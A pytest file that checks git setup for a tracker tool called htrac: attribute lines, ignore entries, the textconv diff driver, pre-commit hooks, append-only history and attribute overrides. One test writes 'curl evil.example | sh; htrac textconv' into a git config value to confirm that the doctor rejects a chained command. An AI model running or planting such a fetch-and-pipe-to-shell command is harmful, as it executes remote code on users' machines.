"""Setup's git checks: the reference's attribute lines, ignores, the driver and the hook."""

from __future__ import annotations

import os
from pathlib import Path

from htrac.gitio.attributes import SHIPPED_HOOK, hook_script
from htrac.service.checks import CheckContext, run
from htrac.service.checks import git as git_checks

REFERENCE_LINES = [
    ".agent/tracker/.ops/.*.ops             linguist-generated  merge=union  diff=tracker",
    ".agent/tracker-workspace/.ops/.*.ops   linguist-generated  merge=union  diff=tracker",
]


def statuses(repo: Path, fix: bool) -> dict[str, str]:
    return {r.name: r.status for r in run(CheckContext(repo, fix=fix), git_checks.CHECKS)}


def test_doctor_reports_missing_git_wiring_without_changing_anything(tmp_tracker):
    before = sorted(p.name for p in tmp_tracker.path.iterdir())
    found = statuses(tmp_tracker.path, fix=False)
    assert found == {"gitattributes": "error", "gitignore": "warn", "textconv": "warn",
                     "precommit_hook": "warn", "repo_programs": "ok",
                     "effective_attributes": "ok"}  # no commit: no history
    assert sorted(p.name for p in tmp_tracker.path.iterdir()) == before


def test_setup_writes_the_reference_lines_and_is_idempotent(tmp_tracker):
    assert set(statuses(tmp_tracker.path, fix=True).values()) == {"fixed", "ok"}  # no commit
    assert statuses(tmp_tracker.path, fix=True) == dict.fromkeys(
        ["gitattributes", "gitignore", "textconv", "precommit_hook", "repo_programs",
         "effective_attributes"], "ok")
    lines = (tmp_tracker.path / ".gitattributes").read_text().splitlines()
    assert lines == REFERENCE_LINES
    ops_attrs = (tmp_tracker.agent_dir / "tracker" / ".ops" / ".gitattributes").read_text()
    assert ops_attrs.splitlines() == ["*.ops merge=union", "*.ops diff=tracker"]
    assert tmp_tracker.git("config", "--local", "diff.tracker.cachetextconv").strip() == "true"
    assert "textconv" in tmp_tracker.git("config", "--local", "diff.tracker.textconv")
    hook = tmp_tracker.path / ".git" / "hooks" / "pre-commit"
    assert hook.read_text() == hook_script() and os.access(hook, os.X_OK)
    ignored = (tmp_tracker.path / ".gitignore").read_text()
    assert ignored.count("# Tracker ephemeral files") == 1


def test_setup_keeps_a_foreign_pre_commit_hook_and_says_how_to_add_htrac(tmp_tracker):
    hook = tmp_tracker.path / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\nmake lint\n")
    result = [r for r in run(CheckContext(tmp_tracker.path, fix=True), git_checks.CHECKS)
              if r.name == "precommit_hook"][0]
    assert result.status == "warn" and "htrac validate --staged" in result.fix
    assert hook.read_text() == "#!/bin/sh\nmake lint\n"


def test_shipped_hook_script_is_the_one_htrac_0_1_installed():
    shipped = Path(__file__).resolve().parents[2] / "githooks" / "pre-commit"
    assert shipped.read_text() == SHIPPED_HOOK
    assert os.access(shipped, os.X_OK)


def test_pre_commit_framework_manifest_runs_the_strict_staged_check():
    manifest = Path(__file__).resolve().parents[2] / ".pre-commit-hooks.yaml"
    text = manifest.read_text()
    assert "id: htrac-validate" in text
    assert "entry: htrac validate --staged --check-locks --strict" in text


def test_doctor_finds_a_removed_op_in_recent_history(tmp_tracker):
    from tests.gitio.conftest import append_op, wire_git

    wire_git(tmp_tracker.path)
    item_id = tmp_tracker.add("Guarded")
    path = tmp_tracker.agent_dir / "tracker-workspace" / ".ops" / f".{item_id}.ops"
    tmp_tracker.git("add", "-A")
    tmp_tracker.git("commit", "-q", "-m", "item")
    nonce = append_op(path, "lock", {"lock": ["status"]}, by="human", actor="alice")
    tmp_tracker.git("commit", "-q", "-a", "-m", "lock")
    assert statuses(tmp_tracker.path, fix=False)["append_only_history"] == "ok"
    path.write_text("".join(line for line in path.read_text().splitlines(keepends=True)
                            if nonce not in line))
    tmp_tracker.git("commit", "-q", "-a", "--no-verify", "-m", "drop the lock")
    result = [r for r in run(CheckContext(tmp_tracker.path, fix=False), git_checks.CHECKS)
              if r.name == "append_only_history"][0]
    assert result.status == "error"
    assert any(f"lock op {nonce}" in line for line in result.details)


def test_doctor_does_not_trust_a_textconv_that_chains_commands(tmp_tracker):
    tmp_tracker.git("config", "--local", "diff.tracker.textconv",
                    "curl evil.example | sh; htrac textconv")
    result = [r for r in run(CheckContext(tmp_tracker.path, fix=True), git_checks.CHECKS)
              if r.name == "textconv"][0]
    assert result.status == "warn" and "not htrac's driver" in result.message


def test_doctor_textconv_fix_line_pastes_into_a_shell_as_is(tmp_tracker):
    """Issue 18 item 8: the fix was quoted `''/…/python3' -m …'`, which a shell mangles."""
    import subprocess

    from htrac.gitio.attributes import textconv_command

    result = [r for r in run(CheckContext(tmp_tracker.path, fix=False), git_checks.CHECKS)
              if r.name == "textconv"][0]
    subprocess.run(["sh", "-c", result.fix], cwd=tmp_tracker.path, check=True)
    value = tmp_tracker.git("config", "--local", "diff.tracker.textconv").strip()
    assert value == textconv_command()
    assert statuses(tmp_tracker.path, fix=False)["textconv"] == "ok"


def test_doctor_reports_an_attribute_override_and_the_line_that_sets_it(git_tracker):
    def result():
        return [r for r in run(CheckContext(git_tracker.path, fix=False), git_checks.CHECKS)
                if r.name == "effective_attributes"][0]

    assert result().status == "ok"
    workspace = git_tracker.agent_dir / "tracker-workspace" / ".ops" / ".gitattributes"
    workspace.write_text(workspace.read_text() + "*.ops merge=binary\n")
    nested = git_tracker.agent_dir / "tracker" / ".ops" / ".gitattributes"
    nested.write_text(nested.read_text() + "*.ops diff=other\n")
    git_tracker.git("add", "-A")
    found = result()
    assert found.status == "error"
    assert any("merge=binary (htrac needs merge=union)" in d for d in found.details)
    assert any("diff=other (htrac needs diff=tracker)" in d for d in found.details)
    assert any(".agent/tracker-workspace/.ops/.gitattributes:3: *.ops merge=binary" in d
               for d in found.details), found.details
    assert any(".agent/tracker/.ops/.gitattributes:3: *.ops diff=other" in d
               for d in found.details)
